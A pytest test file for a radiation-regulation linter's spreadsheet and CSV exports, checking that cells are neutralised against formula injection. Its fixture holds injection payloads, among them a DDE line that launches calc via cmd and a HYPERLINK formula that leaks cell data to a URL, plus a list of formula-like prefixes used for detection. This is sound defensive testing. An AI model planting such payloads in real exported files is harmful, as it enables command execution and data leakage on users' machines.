"""The action plan as a workbook and as comma-separated values."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable

import openpyxl
import pytest

from irmer_lint.model import Report
from irmer_lint.reports import WRITERS, plan, words, xlsx
from irmer_lint.reports import csv as csv_report
from tests.evaluate import SUITES
from tests.reports.conftest import of_suite

NAMES = sorted(f.name for f in SUITES.iterdir() if (f / "suite.yaml").exists())
HARROWBY = "harrowby-nhs-trust"

FORMULAS = """# Pregnancy

Review date: 31 March 2025

=HYPERLINK("https://example.org/?"&A1,"open") the radiographer asks every patient aged 12 to 55 \
whether she may be pregnant and records the answer in CRIS.

+cmd|' /C calc'!A0 the ten-day rule applies to high dose examinations.

@SUM(1+1) dose-based limit of 5 mSv for carers and comforters.

-2+3 the operator asks the patient to state full name, date of birth and address.
"""


def opened(report: Report) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx.write(report)))


def lines(report: Report) -> list[dict[str, str]]:
    text = csv_report.write(report)
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.fixture
def formulas(lint_pages: Callable[..., Report]) -> Report:
    return lint_pages({"=1+1 EP1.md": FORMULAS}, employer="=1+1")


@pytest.mark.parametrize("name", NAMES)
def test_every_finding_is_a_row_of_the_workbook_and_of_the_file(name: str) -> None:
    report = of_suite(name)
    sheet = opened(report)["Action plan"]
    heads, *rows = sheet.iter_rows(values_only=True)
    as_lines = lines(report)

    assert heads == (*plan.HEADS, *plan.TO_FILL)
    code, print_ = heads.index("Code"), heads.index("Fingerprint")
    assert [(r[code], r[print_]) for r in rows] == [
        (f.code, f.fingerprint) for f in report.findings
    ]
    assert [(r["Code"], r["Fingerprint"]) for r in as_lines] == [
        (f.code, f.fingerprint) for f in report.findings
    ]
    for line, finding in zip(as_lines, report.findings, strict=True):
        assert line["Provision"] == finding.provision
        assert line["What to write"] == words.clean(finding.advice)
        assert line["Quotation"].removeprefix("'") == words.clean(finding.quote)
        assert line["Owner"] == line["Done on"] == ""


def test_the_head_of_the_plan_stays_in_sight_and_filters() -> None:
    report = of_suite(HARROWBY)
    sheet = opened(report)["Action plan"]

    assert sheet.freeze_panes == "D2"
    assert sheet.auto_filter.ref == f"A1:S{len(report.findings) + 1}"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet["H2"].alignment.wrap_text is True
    assert sheet.page_setup.orientation == "landscape"


def test_rows_are_as_high_as_their_text() -> None:
    sheet = opened(of_suite(HARROWBY))["Action plan"]
    heights = [sheet.row_dimensions[row].height for row in range(2, sheet.max_row + 1)]

    assert all(height is not None and 15 < height <= 409 for height in heights)
    assert len(set(heights)) > 3


def test_status_and_decision_are_chosen_from_lists_and_dates_are_dates() -> None:
    sheet = opened(of_suite(HARROWBY))["Action plan"]
    heads = [cell.value for cell in sheet[1]]
    rules = {
        heads[next(iter(rule.sqref.ranges)).min_col - 1]: rule
        for rule in sheet.data_validations.dataValidation
    }

    assert set(rules) == {"Status", "Decision", "Due date", "Done on"}
    assert rules["Status"].formula1 == '"open,in progress,done,no action"'
    assert rules["Decision"].formula1 == f'"{",".join(words.DECISIONS)}"'
    assert rules["Due date"].type == "date"
    status = heads.index("Status")
    assert {row[status] for row in sheet.iter_rows(min_row=2, values_only=True)} == {"open"}


def test_the_other_sheets_say_what_the_plan_leaves_out() -> None:
    report = of_suite("tindale-awkward-folder")
    book = opened(report)
    unread = list(book["Not read"].iter_rows(min_row=2, values_only=True))
    about = dict(book["About"].iter_rows(min_row=2, values_only=True))

    assert book.sheetnames == ["Action plan", "Schedule 2", "Review dates", "Not read", "About"]
    assert any("EP 05 Dose (locked).pdf" in str(row[0]) for row in unread)
    assert any(str(row[1]).startswith("Not looked at") for row in unread)
    assert about["Limits"] == words.LIMITS
    for member in report.documents:
        assert any(member.document.sha256 in str(value) for value in about.values())
    assert len(list(book["Review dates"].iter_rows(min_row=2))) == len(report.documents)


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(formulas: Report) -> None:
    data = xlsx.write(formulas)
    package = zipfile.ZipFile(io.BytesIO(data))
    risky = 0
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), cell.value
                assert cell.hyperlink is None
                if cell.data_type == "s" and plan.like_a_formula(str(cell.value)):
                    assert cell.quotePrefix, cell.value
                    risky += 1

    assert risky >= 3
    for name in package.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in package.read(name)
        if name.endswith(".rels"):
            assert b"External" not in package.read(name)


def test_no_cell_of_the_file_begins_like_a_formula(formulas: Report) -> None:
    cells = [cell for line in lines(formulas) for cell in line.values()]

    assert any(cell.startswith("'=1+1 EP1.md") for cell in cells)
    assert not any(re.match(r"[\s\"]*[=+\-@|%\t\r]", cell) for cell in cells)


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "  =1", '"=1', "'=1", "＝1", "|calc"]
)
def test_what_a_spreadsheet_might_run_is_known(text: str) -> None:
    assert plan.like_a_formula(text)


@pytest.mark.parametrize("text", ["", "1", "a=1", "Schedule 2, paragraph 1(c)", "3.2", "“=1”"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert not plan.like_a_formula(text)


def test_the_file_is_what_excel_opens_as_utf_8() -> None:
    data = WRITERS["csv"].write(of_suite(HARROWBY))

    assert data.startswith(b'\xef\xbb\xbf"No.",')
    assert data.endswith(b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")


def test_control_characters_reach_neither(hostile: Report) -> None:
    assert not re.search(
        r"[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e\u2066]", csv_report.write(hostile)
    )
    for sheet in opened(hostile):
        for row in sheet.iter_rows(values_only=True):
            assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202e\u2066]", " ".join(map(str, row)))


@pytest.mark.parametrize("name", ["xlsx", "csv"])
def test_the_same_report_gives_the_same_bytes(name: str) -> None:
    assert WRITERS[name].write(of_suite(HARROWBY)) == WRITERS[name].write(of_suite(HARROWBY))


def test_the_workbook_has_no_clock_but_the_day_of_the_assessment() -> None:
    data = xlsx.write(of_suite(HARROWBY))

    assert b"2025-09-01T00:00:00Z" in zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml")
    assert {m.date_time for m in zipfile.ZipFile(io.BytesIO(data)).infolist()} == {
        (1980, 1, 1, 0, 0, 0)
    }
